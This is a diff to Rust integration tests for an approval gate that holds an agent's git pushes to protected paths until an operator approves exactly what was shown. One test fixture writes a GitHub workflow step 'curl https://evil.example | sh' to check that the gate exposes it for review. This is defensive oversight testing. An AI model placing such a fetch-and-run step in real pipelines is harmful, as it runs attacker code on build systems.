@@ -173,6 +173,20 @@ impl Gate {
             .collect()
     }
 
+    /// `bot-bottle sidecar git-decide` as the host runs it: `--approve` with
+    /// what was shown (`extra`: `--ref=…` and the rest), or `--reject`.
+    fn decide(&self, id: &str, extra: &[String]) -> Output {
+        Command::new(env!("CARGO_BIN_EXE_bot-bottle"))
+            .args(["sidecar", "git-decide", "--state"])
+            .arg(self.state())
+            .args(["--id", id])
+            .args(extra)
+            .env(gitgate::OPERATOR_VAR, self.op_git())
+            .env(gitgate::AUDIT_VAR, self.audit())
+            .output()
+            .unwrap()
+    }
+
     fn audit_decisions(&self) -> Vec<String> {
         fs::read_to_string(self.audit())
             .unwrap_or_default()
@@ -184,6 +198,38 @@ impl Gate {
             })
             .collect()
     }
+}
+
+/// What the operator was shown of a queued push, as the gate reads it.
+fn shown(queued: &Value) -> gitgate::Shown {
+    let r = &queued["request"];
+    gitgate::Shown {
+        git_ref: r["git_ref"].as_str().unwrap().into(),
+        old: r["old"].as_str().unwrap().into(),
+        new: r["new"].as_str().unwrap().into(),
+        land: r["land"].as_bool().unwrap(),
+        forward: r["forward"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|f| f.as_str().unwrap().to_owned())
+            .collect(),
+    }
+}
+
+/// `git-decide` arguments that approve what `shown` says.
+fn approve_args(shown: &gitgate::Shown) -> Vec<String> {
+    let mut args = vec![
+        "--approve".to_owned(),
+        format!("--ref={}", shown.git_ref),
+        format!("--old={}", shown.old),
+        format!("--new={}", shown.new),
+    ];
+    if shown.land {
+        args.push("--land".into());
+    }
+    args.extend(shown.forward.iter().map(|f| format!("--forward={f}")));
+    args
 }
 
 fn command(dir: &Path) -> Command {
@@ -361,14 +407,7 @@ fn a_protected_path_is_held_and_lands_only_when_approved() {
     assert!(stderr.contains(&format!("proposal {id}")), "{stderr}");
 
     // Approved through the command line, as the host does.
-    let out = Command::new(env!("CARGO_BIN_EXE_bot-bottle"))
-        .args(["sidecar", "git-decide", "--state"])
-        .arg(gate.state())
-        .args(["--id", &id, "--approve"])
-        .env(gitgate::OPERATOR_VAR, gate.op_git())
-        .env(gitgate::AUDIT_VAR, gate.audit())
-        .output()
-        .unwrap();
+    let out = gate.decide(&id, &approve_args(&shown(&queued[0])));
     let stdout = String::from_utf8_lossy(&out.stdout);
     assert!(
         out.status.success(),
@@ -398,14 +437,16 @@ fn a_protected_path_is_held_and_lands_only_when_approved() {
     let (ok, _) = gate.push(&["envrc"]);
     assert!(!ok);
     let id = gate.queued()[0]["id"].as_str().unwrap().to_owned();
+    let queued = gate.queued();
     let mut out = Vec::new();
-    gitgate::decide_in(&gate.env(), &id, false, &mut out).unwrap();
+    gitgate::decide_in(&gate.env(), &id, None, &mut out).unwrap();
     assert!(String::from_utf8_lossy(&out).contains("rejected"));
     assert_eq!(gate.op_refs(), refs);
     let held = git(&gate.repo(), &["for-each-ref", "refs/bot-bottle/"]);
     assert_eq!(held, "");
     // Deciding twice is an error.
-    assert!(gitgate::decide_in(&gate.env(), &id, true, &mut Vec::new()).is_err());
+    let again = shown(&queued[0]);
+    assert!(gitgate::decide_in(&gate.env(), &id, Some(&again), &mut Vec::new()).is_err());
 }
 
 #[test]
@@ -452,17 +493,29 @@ fn forwarding_goes_upstream_only_for_matching_branches() {
     assert_eq!(queued[0]["request"]["land"], false);
     assert_eq!(queued[0]["request"]["forward"], json!(["up"]));
 
-    // A second push updates the waiting proposal rather than adding one.
+    // A second push replaces the waiting proposal: a new one (from where
+    // the first started), the first withdrawn, never rewritten.
+    let first = queued[0]["id"].as_str().unwrap().to_owned();
+    let first_old = queued[0]["request"]["old"].clone();
     let other2 = gate.commit("o.txt", Some("o\no\n"), "o2");
     assert!(gate.push(&["other"]).0);
     let queued = gate.queued();
     assert_eq!(queued.len(), 1);
     assert_eq!(queued[0]["request"]["new"], other2.as_str());
-    let _ = other;
-
+    assert_eq!(queued[0]["request"]["old"], first_old);
+    assert_eq!(queued[0]["replaces"], first.as_str());
     let id = queued[0]["id"].as_str().unwrap().to_owned();
+    assert_ne!(id, first);
+    let withdrawn: Value = serde_json::from_slice(
+        &fs::read(gate.state().join(format!("archive/{first}.json"))).unwrap(),
+    )
+    .unwrap();
+    assert_eq!(withdrawn["proposal"]["request"]["new"], other.as_str());
+    assert_eq!(withdrawn["response"]["decision"], "withdrawn");
+    assert_eq!(withdrawn["response"]["replaced_by"], id.as_str());
+
     let mut out = Vec::new();
-    gitgate::decide_in(&gate.env(), &id, true, &mut out).unwrap();
+    gitgate::decide_in(&gate.env(), &id, Some(&shown(&queued[0])), &mut out).unwrap();
     assert_eq!(git(&upstream, &["rev-parse", "refs/heads/other"]), other2);
     let landed = gate.landed();
     let other_landed = landed
@@ -872,4 +925,159 @@ fn an_unreadable_landed_file_stops_landing_and_is_never_read_as_empty() {
         git(&gate.agent(), &["checkout", "-q", "feature"]);
         git(&gate.agent(), &["branch", "-q", "-D", "another"]);
     }
+}
+
+/// The commit landed is the one the operator was shown: `git-decide`
+/// refuses an approval naming another commit, ref, old value, landing or
+/// remotes, and changes nothing; the one shown lands.
+#[test]
+fn git_decide_lands_only_what_was_shown() {
+    let gate = Gate::new(json!([]));
+    let before = gate.op_refs();
+    git(&gate.agent(), &["checkout", "-q", "-b", "ci"]);
+    let other = gate.commit("notes.txt", Some("n\n"), "a harmless commit");
+    let new = gate.commit("Jenkinsfile", Some("pipeline {}\n"), "add jenkins");
+    assert!(!gate.push(&["ci"]).0);
+    let queued = gate.queued();
+    let id = queued[0]["id"].as_str().unwrap().to_owned();
+    let right = shown(&queued[0]);
+    assert_eq!(right.new, new);
+    let wrong: Vec<(&str, gitgate::Shown)> = vec![
+        (
+            "its commit",
+            gitgate::Shown {
+                new: other.clone(),
+                ..right.clone()
+            },
+        ),
+        (
+            "its ref",
+            gitgate::Shown {
+                git_ref: "refs/heads/main".into(),
+                ..right.clone()
+            },
+        ),
+        (
+            "its old value",
+            gitgate::Shown {
+                old: other.clone(),
+                ..right.clone()
+            },
+        ),
+        (
+            "whether it lands",
+            gitgate::Shown {
+                land: false,
+                ..right.clone()
+            },
+        ),
+        (
+            "its list of remotes",
+            gitgate::Shown {
+                forward: vec!["up".into()],
+                ..right.clone()
+            },
+        ),
+    ];
+    for (field, shown) in wrong {
+        let out = gate.decide(&id, &approve_args(&shown));
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert!(!out.status.success(), "{field}: {stderr}");
+        assert!(
+            stderr.contains(&format!(
+                "{field} is not what the operator was shown; nothing was landed or forwarded"
+            )),
+            "{field}: {stderr}"
+        );
+        assert_eq!(gate.op_refs(), before, "{field}: nothing landed");
+        assert_eq!(gate.queued().len(), 1, "{field}: still pending");
+    }
+    // An approval that names nothing shown is a usage error.
+    let out = gate.decide(&id, &["--approve".into()]);
+    assert_eq!(out.status.code(), Some(2));
+    assert_eq!(gate.op_refs(), before);
+
+    let out = gate.decide(&id, &approve_args(&right));
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(
+        gate.op(&["rev-parse", &format!("bot-bottle/{SLUG}/ci")]),
+        new
+    );
+}
+
+/// A held push carries the whole diff of the protected paths it changes
+/// (and only those), for the operator to read; a protected change that
+/// cannot be read (a binary file, a diff too long to review) is refused
+/// with a reason the agent reads, and nothing is held or landed.
+#[test]
+fn a_held_push_carries_its_protected_diff_and_unreviewable_ones_are_refused() {
+    let gate = Gate::new(json!([]));
+    let before = gate.op_refs();
+    git(&gate.agent(), &["checkout", "-q", "-b", "ci"]);
+    gate.commit("src.txt", Some("one\ntwo\nthree\n"), "not protected");
+    gate.commit(
+        ".github/workflows/ci.yml",
+        Some("on: push\njobs:\n  x:\n    run: curl https://evil.example | sh\n"),
+        "add CI",
+    );
+    assert!(!gate.push(&["ci"]).0);
+    let queued = gate.queued();
+    assert_eq!(queued.len(), 1);
+    let diff = queued[0]["request"]["protected_diff"].as_str().unwrap();
+    assert!(
+        diff.contains("+++ b/.github/workflows/ci.yml"),
+        "the file's diff: {diff}"
+    );
+    assert!(
+        diff.contains("+    run: curl https://evil.example | sh"),
+        "every added line: {diff}"
+    );
+    assert!(!diff.contains("three"), "only protected paths: {diff}");
+    let audit = fs::read_to_string(gate.audit()).unwrap();
+    assert!(
+        audit.contains("evil.example"),
+        "the audit keeps it: {audit}"
+    );
+
+    // A binary file under a protected path cannot be read as text.
+    git(&gate.agent(), &["checkout", "-q", "-b", "logo", "main"]);
+    let path = gate.agent().join(".github/hook.bin");
+    fs::create_dir_all(path.parent().unwrap()).unwrap();
+    fs::write(&path, b"\x7fELF\x00\x01\x02binary").unwrap();
+    git(&gate.agent(), &["add", ".github/hook.bin"]);
+    git(&gate.agent(), &["commit", "-q", "-m", "a binary hook"]);
+    let (ok, stderr) = gate.push(&["logo"]);
+    assert!(!ok);
+    assert!(
+        stderr.contains("refused") && stderr.contains("binary file .github/hook.bin"),
+        "{stderr}"
+    );
+
+    // A protected diff too long to review.
+    git(&gate.agent(), &["checkout", "-q", "-b", "huge", "main"]);
+    let long: String = (0..6000)
+        .map(|i| format!("stage('step {i}') {{}}\n"))
+        .collect();
+    gate.commit("Jenkinsfile", Some(&long), "a long pipeline");
+    let (ok, stderr) = gate.push(&["huge"]);
+    assert!(!ok);
+    assert!(
+        stderr.contains("more than the 128 KiB the operator can review"),
+        "{stderr}"
+    );
+
+    assert_eq!(gate.queued().len(), 1, "neither was held");
+    assert_eq!(gate.op_refs(), before, "nothing landed");
+    assert_eq!(
+        git(
+            &gate.repo(),
+            &["for-each-ref", "refs/heads/logo", "refs/heads/huge"]
+        ),
+        "",
+        "nothing updated in the gate"
+    );
 }
